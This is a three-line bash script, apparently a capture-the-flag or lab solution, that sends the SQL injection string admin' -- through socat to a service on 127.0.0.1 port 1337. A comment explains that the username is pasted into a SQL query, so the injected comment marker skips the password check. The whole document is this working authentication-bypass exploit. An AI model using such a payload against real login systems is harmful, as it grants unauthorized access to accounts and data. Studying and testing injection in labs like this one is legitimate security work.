#!/bin/bash
# The name is pasted into the SQL: comment out the password check.
printf "admin' --\nx\n" | socat -t5 - TCP:127.0.0.1:1337
